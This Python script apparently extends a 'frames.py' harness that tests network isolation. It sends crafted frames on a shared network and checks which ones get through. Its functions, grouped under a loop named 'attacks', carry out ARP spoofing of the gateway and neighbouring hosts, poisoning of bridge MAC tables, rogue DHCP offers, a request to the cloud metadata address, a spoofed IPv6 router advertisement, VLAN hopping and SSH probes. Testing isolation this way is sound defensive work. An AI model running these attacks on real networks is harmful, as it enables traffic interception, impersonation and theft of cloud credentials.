

# On a network of somebody else's: tries this beside what `frames.py` tries, and uses its functions.
# More arguments:
#   lan_host lan_host_mac  the host there
#   near near_mac          another computer
#   hosts                  addresses of the host that are reached by the gateway
HOST, HOST_MAC, NEAR, NEAR_MAC = it["lan_host"], it["lan_host_mac"], it["near"], it["near_mac"]
NOBODY = "00:00:00:00:00:00"


def claims():
    gateway = it["gateway"]
    arp("claim-gateway-asking", 1, ME, gateway, NOBODY, gateway, ALL)
    arp("claim-gateway-telling", 2, ME, gateway, ALL, gateway, ALL)
    for name, victim, victim_mac in [("near", NEAR, NEAR_MAC), ("host", HOST, HOST_MAC)]:
        arp("claim-gateway-ask-" + name, 1, ME, gateway, NOBODY, victim, victim_mac)
        arp("claim-gateway-tell-" + name, 2, ME, gateway, victim_mac, victim, victim_mac)
        arp("claim-%s-tell-gateway" % name, 2, ME, victim, GATE, gateway, GATE)
        arp("claim-%s-asking" % name, 1, ME, victim, NOBODY, victim, ALL)
    arp("claim-near-tell-host", 2, ME, NEAR, HOST_MAC, HOST, HOST_MAC)
    arp("claim-host-tell-near", 2, ME, HOST, NEAR_MAC, NEAR, NEAR_MAC)
    arp("claim-neighbour-tell-gateway", 2, ME, it["peer_ip"], GATE, gateway, GATE)
    arp("claim-inner-gateway", 2, GATE, gateway, NEAR_MAC, NEAR, NEAR_MAC)
    arp("claim-outer-gateway", 2, ME, gateway, NEAR_MAC, NEAR, NEAR_MAC, from_mac=GATE)
    # Linux takes no address of the internet from its own network, and others do.
    arp("claim-web-telling", 2, ME, it["web"], ALL, it["web"], ALL)


def learning():
    # Groups that bridges don't forward, in the name of those whose frames are wanted.
    for name, whose in [
        ("gateway", GATE), ("near", NEAR_MAC), ("host", HOST_MAC), ("neighbour", PEER),
    ]:
        for last in (0, 3, 14):
            send("01:80:c2:00:00:%02x" % last, whose, 0x88CC, mark("place-%x-of-%s" % (last, name)))


def leases():
    def ask(name, to, to_mac=GATE, sport=68, dport=67, source=it["ip"]):
        send(
            to_mac, ME, IP,
            ip(source, to, 17, udp(source, to, dport, mark("lease-" + name), sport)),
        )

    ask("ask-private", it["private"])
    ask("ask-metadata", "169.254.169.254")
    ask("ask-node", it["node"])
    ask("ask-gateway", it["gateway"])
    ask("ask-gateway-for-all", it["gateway"], ALL)
    ask("ask-near", NEAR, NEAR_MAC)
    ask("ask-near-nameless", NEAR, NEAR_MAC, source="0.0.0.0")
    ask("ask-neighbour", it["peer_ip"], PEER)
    ask("ask-host", HOST, HOST_MAC)
    ask("ask-all-by-neighbour", "255.255.255.255", PEER)
    ask("offer-near", NEAR, NEAR_MAC, 67, 68)
    ask("offer-near-as-gateway", NEAR, NEAR_MAC, 67, 68, it["gateway"])
    ask("offer-all-as-gateway", "255.255.255.255", ALL, 67, 68, it["gateway"])
    ask("offer-other-port", "255.255.255.255", ALL, 6767, 68)
    ask("relay", it["gateway"], GATE, 67, 67)
    question("question-own", ME)
    question("lease-question-for-near", NEAR_MAC)
    question("lease-question-for-neighbour", PEER)
    question("lease-question-relayed", ME, relay=it["gateway"])
    v6(
        "router-near", NEAR_MAC, "fe80::1", 58,
        struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + mark("router-near"),
    )


def question(name, whose, relay="0.0.0.0"):
    body = (
        struct.pack("!BBBBIHH", 1, 1, 6, 0, 7, 0, 0x8000) + b"\0" * 12
        + socket.inet_aton(relay) + mac(whose) + b"\0" * 202
    )
    called = mark(name)
    body += b"\x63\x82\x53\x63\x35\1\1" + bytes([12, len(called)]) + called + b"\xff"
    send(
        ALL, ME, IP,
        ip("0.0.0.0", "255.255.255.255", 17, udp("0.0.0.0", "255.255.255.255", 67, body, 68)),
    )


def host():
    for name, to in [("own", HOST)] + [
        ("other-%d" % n, to) for n, to in enumerate(it["hosts"].split(","))
    ]:
        for way, to_mac in [("straight", HOST_MAC), ("routed", GATE)]:
            syn("host-%s-%s" % (name, way), to=to, port=22, to_mac=to_mac)
            send(
                to_mac, ME, IP,
                ip(it["ip"], to, 17, udp(it["ip"], to, 53, mark("host-%s-%s-udp" % (name, way)))),
            )
    syn("host-as-router", to_mac=HOST_MAC)
    arp("host-arp", 1, ME, it["ip"], NOBODY, HOST, HOST_MAC)


def near():
    for name, to_mac in [("straight", NEAR_MAC), ("routed", GATE), ("all", ALL)]:
        syn("near-" + name, to=NEAR, port=8000, to_mac=to_mac)
    syn("near-as-router", to=it["private"], to_mac=NEAR_MAC)
    send(
        NEAR_MAC, ME, VLAN,
        struct.pack("!H", 5) + struct.pack("!H", IP)
        + ip(it["ip"], NEAR, 6, tcp(it["ip"], NEAR, 8000, mark("near-vlan"))),
    )
    send(
        ALL, ME, IP,
        ip(
            it["ip"], "224.0.0.1", 2,
            struct.pack("!BBHI", 0x11, 100, 0, 0) + mark("near-querier"),
        ),
    )


syn("control")
# A computer whose place is taken has it again with the next frame of its own. So `learning` comes
# last, because otherwise the permitted frame would go astray.
for attacks in (
    spoofed, neighbours, six, framing, packets, fragments, claims, leases, host, near, learning,
):
    attacks()
syn("control-end")
print("sent", *sorted(marks))
